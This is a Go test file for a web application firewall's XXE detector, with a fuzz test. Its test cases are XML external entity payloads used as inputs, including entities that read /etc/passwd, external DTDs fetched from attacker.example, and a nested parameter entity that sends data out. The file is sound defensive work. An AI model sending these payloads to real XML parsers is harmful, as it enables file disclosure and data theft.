package waf

import "testing"

func TestFindXXE(t *testing.T) {
	const (
		ext   = xxeExternalEntity
		param = xxeParameterEntity
		dtd   = xxeExternalDTD
		exp   = xxeExpansion
		xi    = xxeXInclude
	)
	tests := []struct {
		s    string
		k    xxeKind
		want string // the declaration matched; "" for none
	}{
		{`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, ext, `<!ENTITY x SYSTEM "file:///etc/passwd">`},
		{`<!DOCTYPE r [<!ENTITY x PUBLIC "-//A//B" 'http://a/b'>]>`, ext, `<!ENTITY x PUBLIC "-//A//B" 'http://a/b'>`},
		{`<!DOCTYPE r [<!ENTITY   x   SYSTEM"http://a">]>`, ext, `<!ENTITY   x   SYSTEM"http://a">`},
		{`<!DOCTYPE r [<!ENTITY x "SYSTEM">]>`, ext, ""},
		{`<!DOCTYPE r [<!ENTITY % e "<!ENTITY &#x25; x SYSTEM 'http://a/?%f;'>">]>`, ext, `<!ENTITY &#x25; x SYSTEM 'http://a/?%f;'>`},
		{`<!DOCTYPE r [<!ENTITY % p SYSTEM "http://a/x.dtd"> %p;]>`, param, `<!ENTITY % p SYSTEM "http://a/x.dtd">`},
		{`<!DOCTYPE r [<!ENTITY %p "x">]>`, param, `<!ENTITY %p "x">`},
		{`<!DOCTYPE r [<!ENTITY p "100%">]>`, param, ""},
		{`<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>`, dtd, `<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">`},
		{`<!DOCTYPE r SYSTEM 'x.dtd'>`, dtd, `<!DOCTYPE r SYSTEM 'x.dtd'>`},
		{`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://attacker.example/svg.dtd">`, dtd, `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://attacker.example/svg.dtd">`},
		{`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY a "b">]>`, dtd, ""},
		{`<!DOCTYPE html>`, dtd, ""},
		{`<!doctype r SYSTEM "http://a/">`, dtd, ""},
		{`<!DOCTYPE r [<!ENTITY a "a"><!ENTITY b "&a;&a;">]>`, exp, `<!ENTITY b "&a;&a;">`},
		{`<!DOCTYPE r [<!ENTITY b "&amp;&lt;&#38;&#x26;x">]>`, exp, ""},
		{`<!DOCTYPE r [<!ENTITY b "&a; & b;">]>`, exp, ""},
		{`<!DOCTYPE r [<!-- <!ENTITY x SYSTEM "f"> -->]>`, ext, `<!ENTITY x SYSTEM "f">`}, // a comment: matched all the same
		{`<!ENTITY x SYSTEM "f"`, ext, `<!ENTITY x SYSTEM "f"`},
		{`<!DOCTYPE r SYSTEM "http://a/x.dtd" [<!ENTITY a "b">]>`, dtd, `<!DOCTYPE r SYSTEM "http://a/x.dtd" `}, // read up to its subset
		{`<!DOCTYPE a <!DOCTYPE r SYSTEM "http://a/x.dtd">`, dtd, `<!DOCTYPE r SYSTEM "http://a/x.dtd">`},
		{`<!ENTITY a <!ENTITY x SYSTEM "f">`, ext, `<!ENTITY x SYSTEM "f">`},
		{`no markup`, ext, ""},
		{`http://www.w3.org/2001/XInclude`, xi, `http://www.w3.org/2001/XInclude`},
		{`<r xmlns:q = 'http://www.w3.org/2001/XInclude'><q:include href="x"/></r>`, xi, `xmlns:q = 'http://www.w3.org/2001/XInclude'`},
		{`See http://www.w3.org/2001/XInclude for the spec`, xi, ""},
	}
	for _, tc := range tests {
		got, ok := findXXE(tc.s, tc.k)
		if ok != (tc.want != "") || got != tc.want {
			t.Errorf("findXXE(%q, %d) = %q, %v; want %q", tc.s, tc.k, got, ok, tc.want)
		}
	}
}

// TestParseDeclReadsOneDeclaration: a declaration is read up to its '>', its internal
// subset or a '<' outside its literals, never into the next one. That keeps findXXE
// linear: a value of many unclosed declarations (a megabyte of "<!DOCTYPE ") was read to
// its end once per declaration, minutes of CPU for one request.
func TestParseDeclReadsOneDeclaration(t *testing.T) {
	tests := []struct{ s, text string }{
		{`<!DOCTYPE a SYSTEM "x">tail`, `<!DOCTYPE a SYSTEM "x">`},
		{`<!DOCTYPE <!DOCTYPE <!DOCTYPE `, `<!DOCTYPE `},
		{`<!DOCTYPE a [<!ENTITY b "c">]>`, `<!DOCTYPE a `},
		{`<!ENTITY a "<b>" <!ENTITY c "d">`, `<!ENTITY a "<b>" `}, // a literal's '<' is its own
		{`<!ENTITY a "unclosed <!ENTITY`, `<!ENTITY a "unclosed <!ENTITY`},
	}
	for _, tc := range tests {
		if got := parseDecl(tc.s, len("<!DOCTYPE")).text; got != tc.text {
			t.Errorf("parseDecl(%q).text = %q, want %q", tc.s, got, tc.text)
		}
	}
}

func FuzzFindXXE(f *testing.F) {
	f.Add(`<!DOCTYPE r [<!ENTITY % e "<!ENTITY &#x25; x SYSTEM 'h'>">]>`)
	f.Add(`<!DOCTYPE r SYSTEM "x"`)
	f.Fuzz(func(t *testing.T, s string) {
		for k := xxeExternalEntity; k <= xxeExpansion; k++ {
			findXXE(s, k) // must return, without panicking
		}
	})
}
